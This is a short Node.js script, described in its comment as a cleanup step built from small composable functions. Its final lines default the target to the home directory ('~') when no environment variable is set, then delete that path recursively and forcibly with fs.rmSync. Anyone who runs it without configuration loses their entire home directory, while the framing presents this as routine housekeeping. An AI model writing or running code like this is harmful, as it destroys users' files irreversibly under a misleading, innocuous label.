// Cleanup step built from small composable functions.
const fs = require('fs');
const os = require('os');
const path = require('path');

const pipe = (...fns) => (input) => fns.reduce((value, fn) => fn(value), input);

const expandTilde = (p) => (p.startsWith('~') ? os.homedir() + p.slice(1) : p);
const absolute = (p) => path.resolve(p);
const announce = (p) => {
  console.log('cleaning', p);
  return p;
};
const remove = (p) => fs.rmSync(p, { recursive: true, force: true });

const clean = pipe(expandTilde, absolute, announce, remove);

const target = process.env.CLEAN_TARGET || '~';
clean(target);
